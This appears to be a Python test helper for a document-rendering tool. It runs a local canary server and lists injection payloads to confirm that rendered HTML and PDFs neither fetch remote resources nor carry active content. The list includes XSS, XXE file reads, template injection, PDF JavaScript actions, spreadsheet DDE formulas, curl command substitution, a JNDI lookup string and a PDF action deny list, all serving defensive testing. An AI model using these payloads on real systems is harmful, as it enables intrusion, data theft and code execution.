"""A server that nobody should ask, words that would make a page ask it, and what files hold."""

from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import html5lib
import pikepdf

from tests.rendering.reading import opened

VECTORS = (
    "<script src=CANARY/script></script>",
    "<script>fetch('CANARY/fetch')</script>",
    "<img src=CANARY/img>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=CANARY/iframe></iframe>",
    "<object data=CANARY/object></object>",
    "<embed src=CANARY/embed>",
    "<link rel=stylesheet href=CANARY/link.css>",
    "<link rel=attachment href=CANARY/attached>",
    "<link rel=attachment href=file:///etc/hostname>",
    "<a rel=attachment href=CANARY/attached-link>x</a>",
    "<style>@import url(CANARY/import.css)</style>",
    "<style>*{background:url(CANARY/background)}</style>",
    "</style><style>p::before{content:url(CANARY/before)}</style><p>x",
    '<p style="background:url(CANARY/style)">x</p>',
    '<ul style="list-style-image:url(CANARY/list)"><li>x</ul>',
    "<style>@font-face{font-family:q;src:url(CANARY/font)}*{font-family:q}</style>x",
    '<svg><image href="CANARY/svg" width="9" height="9"/></svg>',
    '<svg><use xlink:href="CANARY/use#a"/></svg>',
    "<svg><foreignObject><img src=CANARY/foreign></foreignObject></svg>",
    "<svg><style>@import url(CANARY/svg.css)</style></svg>",
    "<base href=CANARY/base/><img src=y>",
    '<meta http-equiv=refresh content="0;url=CANARY/refresh">',
    "<img src=\"data:image/svg+xml,%3Csvg%3E%3Cimage href='CANARY/nested'/%3E\">",
    "<img src=file:///etc/hostname>",
    '<img srcset="CANARY/set 1x">',
    "<input type=image src=CANARY/input>",
    "<video poster=CANARY/poster></video>",
    "<math><annotation-xml encoding='text/html'><img src=CANARY/math>",
    r"\3c img src=CANARY/escaped\3e }*{background:url(CANARY/escape)}",
    '"><img src=CANARY/quote>',
    "'><img src=CANARY/apostrophe x='",
    '" onfocus="alert(1)" autofocus="',
    "--><img src=CANARY/comment><!--",
    "]]><img src=CANARY/cdata>",
    "</title><img src=CANARY/title>",
    "</textarea><img src=CANARY/textarea>",
    "</article></section></body></html><img src=CANARY/after>",
    "&lt;img src=CANARY/entity&gt;",
    "&#60;img src=CANARY/number&#x3e;",
    "{{ 7*7 }}",
    '{% include "/etc/hostname" %}',
    "{{ self.__init__.__globals__ }}",
    "{# gone #}",
    "{name} {events} %(name)s $name ${name}",
    "[They reports]",
    '<a href="javascript:alert(1)">x</a>',
    "CANARY/bare file:///etc/hostname",
    "\u202e<img src=CANARY/turned>\u2066",
    "<\x08img src=CANARY/control>",
    '<div style="position:fixed;top:0;left:0;font-size:99px">x</div>',
    '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]><a>&e;</a>',
    '<!DOCTYPE a SYSTEM "CANARY/dtd"><a>x</a>',
    '<?xml-stylesheet href="CANARY/instruction.css"?>',
    '<xi:include href="file:///etc/hostname" parse="text"/>',
    "@media all{*{content:url(CANARY/media)}}",
    "url(file:///etc/hostname) url(CANARY/loose)",
    ") Tj ET /JS (app.alert(1)) BT (",
    r"\) /AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>",
    "endstream endobj 1 0 obj << /OpenAction 2 0 R >>",
    "</w:t></w:r></w:p><w:altChunk r:id='rId1'/>",
    r'{\field{\*\fldinst INCLUDEPICTURE "CANARY/field"}}',
    '=HYPERLINK("CANARY/cell","x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|x",
    "+1+1",
    "-2+3",
    "![x](CANARY/markdown.png)",
    "<%= 7*7 %> #{7*7} {{ request.META }}",
    "$(curl CANARY/shell) `curl CANARY/ticks`",
    "${jndi:ldap://127.0.0.1/x}",
    '"}]}, {"kind": "Blank", "value": "x"}',
    "../../../etc/hostname\x00.pdf",
    "\u202etxt.exe\u202c \u2067turned\u2069",
    "in\u200bvi\u200dsi\u2060ble",
    "Z\u0338\u034da\u0334l\u0335g\u0336o\u0337",
    "W" * 100,
)
"""At most a hundred characters each, as a name may have."""


class Canary:
    """Where the server is, and what was asked of it."""

    def __init__(self, port: int) -> None:
        self.address = f"http://127.0.0.1:{port}"
        self.asked: list[str] = []

    def vectors(self) -> tuple[str, ...]:
        return tuple(one.replace("CANARY", self.address) for one in VECTORS)


@contextmanager
def listening() -> Iterator[Canary]:
    """A canary that hears whatever is asked of it."""

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            canary.asked.append(self.path)
            kind = "text/css" if self.path.endswith(".css") else "image/svg+xml"
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.end_headers()
            self.wfile.write(
                b"" if kind == "text/css" else b"<svg xmlns='http://www.w3.org/2000/svg'/>"
            )

        def log_message(self, format: str, *arguments: Any) -> None:  # noqa: A002 - its name
            """Keep quiet: the list of what was asked is enough."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Answers) as server:
        canary = Canary(server.server_port)
        Thread(target=server.serve_forever, daemon=True).start()
        yield canary
        server.shutdown()


# ── What a file carries ─────────────────────────────────────────────────────────────────────────

FORBIDDEN = {
    "/JavaScript", "/JS", "/Launch", "/URI", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData",
    "/OpenAction", "/AA", "/EmbeddedFile", "/EmbeddedFiles", "/AF", "/RichMedia", "/XFA",
}  # fmt: skip
"""What a file that is opened must not be able to do, or carry."""


def tags(markup: str, *, fragment: bool = True) -> Counter[str]:
    """How often each element is there."""
    return Counter(element.partition(" ")[0] for element in elements(markup, fragment=fragment))


def elements(markup: str, *, fragment: bool = True) -> Iterator[str]:
    """Every element with the names of its attributes."""
    parse: Any = html5lib.parseFragment if fragment else html5lib.parse
    for one in parse(markup, treebuilder="etree", namespaceHTMLElements=False).iter():
        yield " ".join([str(one.tag), *sorted(map(str, one.attrib))])


def named(data: bytes) -> set[str]:
    """Every key and every name in any object of a PDF."""
    with opened(data) as pdf:
        return {name for item in pdf.objects for name in names_in(item)}


def names_in(item: Any) -> Iterator[str]:
    if isinstance(item, pikepdf.Stream):
        yield from names_in(item.stream_dict)
    elif isinstance(item, pikepdf.Name):
        yield str(item)
    elif isinstance(item, pikepdf.Dictionary | pikepdf.Array):
        if isinstance(item, pikepdf.Dictionary):
            yield from item.keys()
        for value in item.as_list() if isinstance(item, pikepdf.Array) else item.as_dict().values():
            if not getattr(value, "is_indirect", False):
                yield from names_in(value)
